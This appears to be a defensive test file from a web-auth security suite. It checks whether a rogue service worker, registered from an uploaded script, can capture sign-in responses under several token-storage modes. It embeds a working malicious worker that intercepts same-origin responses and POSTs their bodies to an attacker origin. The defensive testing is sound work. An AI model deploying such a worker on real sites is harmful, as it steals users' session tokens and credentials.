/** Registers a script that the attacker has got onto the origin (an upload, a JSONP endpoint) in the worker's place: it reads what the next sign-in is answered. */
import { attack } from './support/attack.js';
import { signedInAs } from './support/modes.js';
import { notStopped, stopped } from './support/outcome.js';

const UPLOADED = '/uploaded.js';

/** Sends whatever the origin answers to the attacker. */
const LISTENER = `
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (new URL(event.request.url).origin !== location.origin) return;
  event.respondWith((async () => {
    const answer = await fetch(event.request);
    const home = new URL(location.href).searchParams.get('home');
    event.waitUntil(answer.clone().text().then((body) => fetch(home, { method: 'POST', mode: 'no-cors', body })));
    return answer;
  })());
});
`;

attack('Register another script in the worker’s place, and listen to the next sign-in', {
  engines: 'one',
  site: { files: { [UPLOADED]: LISTENER } },
  expected: {
    indexeddb: notStopped('any script that the origin serves can become its worker; `refuseOtherWorkers` stops that in every mode'),
    memory: notStopped('any script that the origin serves can become its worker; `refuseOtherWorkers` stops that in every mode'),
    sealed: stopped('`refuseOtherWorkers`: the server gives no other script to a browser that fetches a worker'),
    'sealed + proof': stopped('`refuseOtherWorkers`: the server gives no other script to a browser that fetches a worker'),
  },
  steps: async ({ tab, attacker, signIn }) => {
    const registered = await tab.run(async (script) => {
      const { serviceWorker } = navigator;
      const replaced = new Promise((resolve) => serviceWorker.addEventListener('controllerchange', resolve, { once: true }));
      return serviceWorker.register(script, { scope: '/' }).then(
        () => replaced.then(() => 'registered'),
        (error: Error) => `${error.name}: ${error.message}`,
      );
    }, `${UPLOADED}?home=${encodeURIComponent(attacker.origin)}`);
    const { body } = await signIn();
    if (registered === 'registered') await tab.run((home) => fetch(home, { mode: 'no-cors' }).then(() => undefined), `${attacker.origin}/done`);
    return [registered, body];
  },
  control: {
    name: '`sealed` without `refuseOtherWorkers`',
    victim: (stage) =>
      signedInAs(stage, { refreshTokenIn: 'worker', storage: 'sealed', hasProof: false, refusesOtherWorkers: false }, { files: { [UPLOADED]: LISTENER } }),
  },
});
